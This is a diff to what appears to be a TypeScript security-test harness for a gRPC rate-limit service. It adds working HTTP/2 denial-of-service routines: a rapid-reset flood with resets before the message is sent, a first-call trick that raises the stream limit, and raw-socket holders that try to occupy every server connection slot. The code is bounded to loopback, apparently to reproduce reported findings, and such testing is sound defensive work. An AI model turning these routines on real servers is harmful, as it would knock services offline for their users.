@@ -2,6 +2,7 @@
 // the client can do what no gRPC library does: leave a message unfinished, or reset a call
 // right after sending it. Loopback only; every loop bounded in count and time.
 import * as http2 from 'node:http2';
+import { connect as netConnect, type Socket } from 'node:net';
 
 const METHOD_PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit';
 const HEADERS = {
@@ -55,6 +56,11 @@ export interface PartialCallsOptions {
   readonly minHoldMs?: number;
   /** Called once all streams were opened and written, and then every second while held. */
   readonly onTick?: (elapsedMs: number) => void;
+  /**
+   * Make one whole call on each connection first, so that it may open GRPC_MAX_CONCURRENT_STREAMS
+   * rather than the 10 a connection starts with (issue 26).
+   */
+  readonly callFirst?: boolean;
 }
 
 export interface PartialCallsResult {
@@ -104,6 +110,7 @@ export async function partialCalls(o: PartialCallsOptions): Promise<PartialCalls
     session.once('close', () => {
       if (!letGo) result.connectionsClosedByServer++;
     });
+    if (o.callFirst) await firstCall(session, messagePrefix(0));
     const allowed = Math.min(o.streamsPerConnection, session.remoteSettings.maxConcurrentStreams ?? o.streamsPerConnection);
     result.maxConcurrentStreams ??= session.remoteSettings.maxConcurrentStreams;
     for (let s = 0; s < allowed && !session.destroyed; s++) {
@@ -142,6 +149,10 @@ export interface RapidResetOptions {
   /** One complete ShouldRateLimit request message (protobuf bytes). */
   readonly request: Buffer;
   readonly timeoutMs: number;
+  /** Extra request headers on every call (issue 26: `grpc-timeout: 1M`, a deadline far ahead). */
+  readonly headers?: Readonly<Record<string, string>>;
+  /** Reset each call after its HEADERS, before its message is sent (issue 26, finding 6). */
+  readonly resetBeforeMessage?: boolean;
 }
 
 export interface RapidResetResult {
@@ -153,6 +164,23 @@ export interface RapidResetResult {
   goawayCode: number | undefined;
   /** The last stream the GOAWAY says the server processed: about twice the calls it took. */
   goawayLastStreamId: number | undefined;
+}
+
+/**
+ * One whole call, answered, then the SETTINGS that follow it: a connection starts with 10 calls
+ * at once and gets GRPC_MAX_CONCURRENT_STREAMS once a call has finished (issue 26), so an
+ * attacker makes one first. Bounded: 5 s.
+ */
+async function firstCall(session: http2.ClientHttp2Session, message: Buffer): Promise<void> {
+  const raised = new Promise<void>((resolve) => session.once('remoteSettings', () => resolve()));
+  const answered = new Promise<void>((resolve) => {
+    const stream = session.request(HEADERS);
+    stream.on('error', () => resolve());
+    stream.once('close', () => resolve());
+    stream.resume();
+    stream.end(message);
+  });
+  await Promise.race([answered.then(() => raised), sleep(5000)]);
 }
 
 /**
@@ -172,16 +200,18 @@ export async function rapidReset(o: RapidResetOptions): Promise<RapidResetResult
   const closed = new Promise<void>((resolve) => session.once('close', () => resolve()));
   session.once('close', () => (result.closedByServer = true));
   const message = Buffer.concat([messagePrefix(o.request.length), o.request]);
+  const headers = { ...HEADERS, ...o.headers };
+  await firstCall(session, message);
   const until = Date.now() + o.timeoutMs;
   for (let i = 0; i < o.calls && !result.closedByServer && !session.destroyed && Date.now() < until; i++) {
     let stream: http2.ClientHttp2Stream;
     try {
-      stream = session.request(HEADERS, { endStream: false });
+      stream = session.request(headers, { endStream: false });
     } catch {
       break;
     }
     stream.on('error', () => {});
-    stream.end(message);
+    if (!o.resetBeforeMessage) stream.end(message);
     stream.close(http2.constants.NGHTTP2_CANCEL);
     result.resets++;
     // Let the frames go out in batches, as a real attacker's socket writes would.
@@ -190,5 +220,66 @@ export async function rapidReset(o: RapidResetOptions): Promise<RapidResetResult
   // Whatever the server still does about it (a GOAWAY in flight) arrives within this time.
   await Promise.race([closed, sleep(1000)]);
   session.destroy();
+  return result;
+}
+
+/** The HTTP/2 client connection preface and an empty SETTINGS frame: all a slot-holder sends. */
+const PREFACE_AND_SETTINGS = Buffer.concat([
+  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
+  Buffer.from([0, 0, 0, 0x04, 0, 0, 0, 0, 0]),
+]);
+
+export interface SlotHoldersOptions {
+  readonly port: number;
+  /** Raw TCP connections kept open at once; each one closed by the server is opened again. */
+  readonly connections: number;
+  readonly holdMs: number;
+  /** Called every second while held, after the first `connections` were opened. */
+  readonly onTick?: (elapsedMs: number) => Promise<void> | void;
+}
+
+export interface SlotHoldersResult {
+  /** Connections opened in all (the first ones and every reopening). */
+  opened: number;
+  /** Connections the server closed or refused while held. */
+  closedByServer: number;
+}
+
+/**
+ * Issue 26, finding 2: `connections` raw TCP connections that send only the HTTP/2 preface and an
+ * empty SETTINGS frame, each opened again when the server closes it, for `holdMs`: an attempt
+ * to hold every one of the server's connection slots. Loopback only; bounded in time and count
+ * (at most 100 reopenings a connection).
+ */
+export async function holdConnectionSlots(o: SlotHoldersOptions): Promise<SlotHoldersResult> {
+  const result: SlotHoldersResult = { opened: 0, closedByServer: 0 };
+  const sockets = new Set<Socket>();
+  const until = Date.now() + o.holdMs;
+  const maxOpened = o.connections * 100;
+  let letGo = false;
+  const open = (): void => {
+    if (letGo || Date.now() >= until || result.opened >= maxOpened) return;
+    result.opened++;
+    const s = netConnect({ host: '127.0.0.1', port: o.port });
+    sockets.add(s);
+    s.on('error', () => {});
+    s.on('data', () => {});
+    s.once('connect', () => s.write(PREFACE_AND_SETTINGS));
+    s.once('close', () => {
+      sockets.delete(s);
+      if (letGo) return;
+      result.closedByServer++;
+      // Not at once: a refused connection would otherwise spin.
+      setTimeout(open, 10);
+    });
+  };
+  for (let i = 0; i < o.connections; i++) open();
+  const t0 = Date.now();
+  while (Date.now() < until) {
+    await sleep(Math.min(1000, until - Date.now()));
+    await o.onTick?.(Date.now() - t0);
+  }
+  letGo = true;
+  for (const s of sockets) s.destroy();
   return result;
 }
